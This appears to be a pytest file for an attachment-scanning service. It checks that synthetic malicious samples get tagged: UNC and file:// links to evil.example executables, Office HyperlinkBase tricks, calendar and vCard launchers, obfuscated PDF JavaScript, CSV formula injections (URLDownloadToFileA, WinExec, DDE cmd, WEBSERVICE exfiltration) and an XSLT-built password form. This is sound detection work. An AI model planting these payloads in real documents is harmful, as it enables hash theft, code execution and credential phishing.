"""Links that start a program, and content that is loaded, in places where the service did not look."""

from __future__ import annotations

import pytest

from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.service.service_kit import attached, mail, zipped
from tests.service.test_service_documents import ole

BASE = rb"\\evil.example\share"
PROPERTIES = b"<Properties><HyperlinkBase>%b</HyperlinkBase></Properties>"
CALENDAR = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n%b\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
ALARM = b"BEGIN:VALARM\r\n%b\r\nEND:VALARM"
CARD = b"BEGIN:VCARD\r\nVERSION:3.0\r\n%b\r\nEND:VCARD\r\n"
XSL = b'xmlns:x="http://www.w3.org/1999/XSL/Transform"'
PAGE = (
    b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><d><x:stylesheet id="s" %b>%b</x:stylesheet></d>'
)


def found(content: bytes) -> tuple[set[str], set[str]]:
    result = inspect(content, Limits())
    return {tag for tag in result.tags if not tag.startswith("header:")}, result.hosts


def properties(base: bytes, name: str = "a.docx") -> bytes:
    return attached(zipped(("docProps/app.xml", PROPERTIES % base)), name)


def invited(line: bytes) -> bytes:
    return mail(CALENDAR % line, Content_Type="text/calendar")


def card(line: bytes) -> bytes:
    return attached(CARD % line, "a.vcf", "text/vcard")


def scripted(source: bytes) -> bytes:
    escaped = source.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
    return document(b"<</S/JavaScript/JS (" + escaped + b")>>")


def document(action: bytes, *others: bytes) -> bytes:
    content = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction " + action + b">>endobj\n"
    return attached(content + b"".join(others) + b"trailer<</Root 1 0 R>>\n%%EOF\n", "a.pdf")


BASES = {
    "Word": properties(BASE),
    "Excel": properties(b"file://evil.example/share/", "a.xlsx"),
    "a CDATA section": properties(b"<![CDATA[" + BASE + b"]]>"),
    "RTF": attached(rb"{\rtf1{\info{\hlinkbase \\\\evil.example\\share}}x}", "a.rtf"),
    "a page of Word": attached(
        b"<html><xml><o:DocumentProperties><o:HyperlinkBase>" + BASE + b"</o:HyperlinkBase></o:DocumentProperties>",
        "a.doc",
    ),
    "an old document": attached(
        ole({"\x05DocumentSummaryInformation": "_PID_HLINKBASE\0\\\\evil.example\\share\0".encode("utf-16-le")}),
        "a.doc",
    ),
}


@pytest.mark.parametrize("content", BASES.values(), ids=BASES)
def test_the_base_of_all_links_of_a_document_was_not_read(content: bytes) -> None:
    """Word opens base and target as one address: the target alone is a name without a folder."""
    assert "office:launch" in found(content)[0]


@pytest.mark.parametrize("base", [b"https://intranet.example/", rb"\\server\share", rb"C:\Documents", b""])
def test_an_ordinary_base_has_no_tag(base: bytes) -> None:
    assert "office:launch" not in found(properties(base))[0]


PATHS = {
    "in brackets": b"see <file://evil.example/a b/x.exe>\r\n",
    "over two lines": b"see <file://evil.example/a\r\nb/x.exe>\r\n",
    "a path": rb"see \\evil.example\share\x.exe.",
    "a path in brackets": rb"see <\\evil.example\share\x.exe>",
    "in capitals": b"FILE://EVIL.EXAMPLE/X.EXE",
    "over WebDAV": rb"\\evil.example@80\x.lnk",
    "a file that Outlook opens": rb"<file:///\\evil.example\x.rtf!y>",
}


@pytest.mark.parametrize("body", PATHS.values(), ids=PATHS)
def test_a_path_that_outlook_makes_a_link_had_no_tag(body: bytes) -> None:
    tags, hosts = found(mail(body))
    assert "url:starts-program" in tags and "evil.example" in hosts


@pytest.mark.parametrize(
    "body",
    [
        rb"copy it to \\server\share\setup.exe",
        rb"look at \\files.example\share\report.pdf",
        b"see file:///C:/Users/a/setup.exe and file://localhost/x.exe",
        rb"a & b \\ \hline 1.5 \\2.5 \textbf{x.exe}",
        b"download https://example.org/setup.exe",
    ],
)
def test_an_ordinary_text_has_no_such_link(body: bytes) -> None:
    assert not found(mail(body))[0]


STARTING = {
    "an attachment": invited(b"ATTACH:file://evil.example/share/x.exe"),
    "a path": invited(b"ATTACH;FMTTYPE=a/b:" + BASE + rb"\x.exe"),
    "an escaped path": invited(rb"DESCRIPTION:open \\\\evil.example\\share\\x.exe now\, please"),
    "a folded line": invited(b"URL:file://evil.exam\r\n ple/x.exe"),
    "a parameter": invited(b'SUMMARY;ALTREP="file://evil.example/x.exe":x'),
    "a description in HTML": invited(b'X-ALT-DESC;FMTTYPE=text/html:<a href="file://evil.example/x.exe">x</a>'),
    "a search": invited(b"URL;VALUE=URI:search-ms:query=x&crumb=location:" + BASE),
    "an alarm that is a program": invited(ALARM % b"ACTION:PROCEDURE\r\nATTACH:file:///C:/x/calc.exe"),
    "an alarm of vCalendar": attached(CALENDAR % b"PALARM:19971210T090000Z;;;x.exe", "a.vcs"),
    "an appointment in an archive": attached(zipped(("a.ics", CALENDAR % b"URL:file://evil.example/x.exe")), "a.zip"),
    "a card": card(b"item1.URL;TYPE=work:file://evil.example/x.exe"),
    "a key of a card": card(b"KEY;VALUE=uri:" + BASE + rb"\x.exe"),
    "a script in a card": card(b"URL:javascript:alert(1)"),
    "a card in quoted-printable": card(b"URL;ENCODING=QUOTED-PRINTABLE:file:=2F=2Fevil.example/x.exe"),
    "a quoted cell": attached(b'a,"=HYPERLINK(""file://evil.example/x.exe"",""open"")"\r\n', "a.csv"),
}


@pytest.mark.parametrize("content", STARTING.values(), ids=STARTING)
def test_the_links_of_appointments_and_cards_were_hosts_and_nothing_else(content: bytes) -> None:
    assert "url:starts-program" in found(content)[0]


@pytest.mark.parametrize(
    "content",
    [
        card(b"PHOTO;VALUE=uri:file://evil.example/p.jpg"),
        card(b"SOUND;VALUE=uri:" + BASE + rb"\a.wav"),
        invited(ALARM % b"ACTION:AUDIO\r\nATTACH;FMTTYPE=audio/basic:file://evil.example/s.au"),
    ],
    ids=["photo", "sound", "alarm"],
)
def test_what_a_card_or_an_alarm_loads_from_a_file_server_had_no_tag(content: bytes) -> None:
    """The reader's password hash is sent to that server."""
    assert "office:remote-object" in found(content)[0]


@pytest.mark.parametrize(
    "content",
    [
        card(b"URL:https://example.org/\r\nPHOTO;VALUE=uri:https://example.org/p.jpg\r\nNOTE:Search:all"),
        invited(b"ATTACH:https://example.org/a.exe\r\nSUMMARY:Search:flats\r\nORGANIZER:mailto:a@example.org"),
        invited(ALARM % b"ACTION:DISPLAY\r\nDESCRIPTION:Reminder\r\nTRIGGER:-PT15M"),
        invited(ALARM % b"ACTION:AUDIO\r\nATTACH;VALUE=URI:Basso\r\nTRIGGER:-PT15M"),
    ],
)
def test_ordinary_appointments_and_cards_have_no_tag(content: bytes) -> None:
    assert not found(content)[0]


SCRIPTS = {
    "a link": scripted(b'app.launchURL("file://evil.example/x.exe", true)'),
    "a search": scripted(b'this.getURL("search-ms:query=x&crumb=location:' + BASE.replace(b"\\", b"\\\\") + b'")'),
    "a document on a server": scripted(b"app.openDoc('" + BASE.replace(b"\\", b"\\\\") + b"\\\\x.exe')"),
    "after a short string": scripted(b'f("a", 1234, 12345, "file://evil.example/x.exe"); app.openDoc(x)'),
    "in pieces": scripted(b'app["launch"+"URL"]("file://ev"+"il.example/x.exe")'),
    "escaped": scripted(b'app.launchURL("\\x66ile://evil.example/x.exe")'),
    "a script in another object": document(
        b"<</S/JavaScript/JS 2 0 R>>",
        b'2 0 obj<</Length 50>>stream\napp.launchURL("file://evil.example/x.exe");\nendstream endobj\n',
    ),
    "a string in another object": document(
        b"<</S/JavaScript/JS 2 0 R>>", b'2 0 obj (app.launchURL\\("file://evil.example/x.exe"\\)) endobj\n'
    ),
    "a form": document(
        b"<</XFA 2 0 R>>",
        b"2 0 obj<</Length 99>>stream\n<script contentType='application/x-javascript'>"
        b"xfa.host.gotoURL(&quot;file://evil.example/x.exe&quot;)</script>\nendstream endobj\n",
    ),
}


@pytest.mark.parametrize("content", SCRIPTS.values(), ids=SCRIPTS)
def test_a_link_of_a_script_in_pdf_was_no_link(content: bytes) -> None:
    """An action of the document with the same link had the tag."""
    tags, hosts = found(content)
    assert {"pdf:javascript", "pdf:launch"} <= tags and "evil.example" in hosts


@pytest.mark.parametrize(
    "arguments", [b'{cName:"x.doc",nLaunch:2}', b'{cName:"x.doc", "nLaunch": 1}', b'"x","",true,2']
)
def test_a_script_that_opens_an_embedded_file_had_no_tag(arguments: bytes) -> None:
    assert "pdf:launch" in found(scripted(b"this.exportDataObject(" + arguments + b")"))[0]


@pytest.mark.parametrize(
    "source",
    [
        b'this.exportDataObject({cName:"x.doc",nLaunch:0})',
        b'app.launchURL("https://example.org/x.exe")',
        b'var s = "search:"; this.submitForm("https://example.org/"); var t = "Shell: 5 mm"',
        b'app.alert("file://files.example/setup.exe")',
    ],
)
def test_an_ordinary_script_in_pdf_starts_nothing(source: bytes) -> None:
    assert "pdf:launch" not in found(scripted(source))[0]


@pytest.mark.parametrize(
    ("head", "tag"),
    [
        (b'<link rel=Edit-Time-Data href="http://evil.example/editdata.mso">', "office:remote-template"),
        (b"<LINK HREF='file://evil.example/s/o.mso' REL=OLE-Object-Data>", "office:remote-object"),
        (b'<link rel="Main-File" href="\\\\evil.example\\x.htm">', "office:remote-object"),
        (b'<link rel=File-List href="&#104;ttp://evil.example/filelist.xml">', "office:remote-object"),
        (
            b'<base href="http://evil.example/a/"><link rel=Edit-Time-Data href="editdata.mso">',
            "office:remote-template",
        ),
    ],
)
def test_parts_of_a_word_page_that_are_elsewhere_had_no_tag(head: bytes, tag: str) -> None:
    """The first has the macros."""
    assert tag in found(attached(b"<html><head>" + head + b"</head>x</html>", "a.doc"))[0]


@pytest.mark.parametrize(
    "href", [b"cid:filelist.xml@01D0", b"a_files/editdata.mso", b"file:///C:/a_files/editdata.mso", rb"\\server\a.mso"]
)
def test_parts_beside_a_word_page_have_no_tag(href: bytes) -> None:
    page = b'<html><head><link rel=Edit-Time-Data href="' + href + b'"></head>x</html>'
    assert not {tag for tag in found(attached(page, "a.doc"))[0] if tag.startswith("office:")}


@pytest.mark.parametrize("cell", ["={}", "+{}", "-{}", "@{}", "\t={}", '"={}"', "=1+{}", "=IF(1,{})"])
@pytest.mark.parametrize(
    ("call", "tag"),
    [
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)', "office:macro-runs-program"),
        ('register.id ( "Kernel32","WinExec","JCJ")', "office:macro-runs-program"),
        ("EXEC(CHAR(99)&CHAR(97))", "office:macro-runs-program"),
        ('_xlfn.WEBSERVICE("http://evil.example/"&A1)', "office:remote-object"),
        ('IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "office:remote-object"),
        ('RTD("prog.id","server","x")', "office:dde-link"),
    ],
    ids=["call", "register", "exec", "webservice", "import", "rtd"],
)
def test_functions_in_a_table_of_text_had_no_tag(cell: str, call: str, tag: str) -> None:
    quoted = call.replace('"', '""') if cell.startswith('"') else call
    assert tag in found(attached(f"a,b\r\n1,{cell.format(quoted)}\r\n".encode(), "a.csv"))[0]


def test_a_table_in_utf_16_and_a_query_of_libreoffice() -> None:
    assert found(attached('a\t=EXEC("calc")\r\n'.encode("utf-16"), "a.xls"))[0] >= {"office:macro-runs-program"}
    assert found(attached(b'a,"=DDE(""cmd"";""/C calc"";""A0"")"\r\n', "a.csv"))[0] >= {"office:dde"}


@pytest.mark.parametrize(
    "row",
    [
        "-5.00,please call (0123) and register (free), RTD (Pt100)",
        '-5.00,"call ("later")"',
        'x,they told us to exec("ls") it',
        '=SUM(A1:A3),=IMPORTANT("x")',
    ],
)
def test_an_ordinary_table_has_no_function_with_a_tag(row: str) -> None:
    assert not {tag for tag in found(attached(f"{row}\r\n".encode(), "a.csv"))[0] if tag.startswith("office:")}


FORM = b'<x:template match="/"><html><form action="https://evil.example/p">%b</form></html></x:template>'
FIELDS = {
    "an element": b'<x:element name="input"><x:attribute name="type">password</x:attribute></x:element>',
    "an attribute with a text": b'<input><x:attribute name="type"><x:text>password</x:text></x:attribute></input>',
}


@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS)
def test_a_form_that_a_stylesheet_builds_was_not_found(field: bytes) -> None:
    """A browser shows the form: the page has its own stylesheet."""
    tags, _ = found(attached(PAGE % (XSL, FORM % field), "a.xml", "text/xml"))
    assert {"attachment:credential-form", "attachment:builds-page"} <= tags


def test_a_page_whose_stylesheet_computes_its_form_had_no_tag() -> None:
    computed = b"<x:variable name='p' select=\"concat('pass','word')\"/>" + FORM % b'<input type="{$p}"/>'
    assert "attachment:builds-page" in found(attached(PAGE % (XSL, computed), "a.xml", "text/xml"))[0]
    elsewhere = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?><d/>'
    assert "attachment:builds-page" in found(attached(elsewhere, "a.xml", "text/xml"))[0]


def test_an_invoice_with_a_stylesheet_beside_it_has_no_tag() -> None:
    """Invoices of many authorities name one, on a server or in the same folder; browsers do not load it."""
    for href in (b"fatturapa_v1.2.xsl", b"https://authority.example/invoice.xsl"):
        page = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + href + b'"?><Invoice/>'
        assert not found(attached(page, "a.xml", "text/xml"))[0]
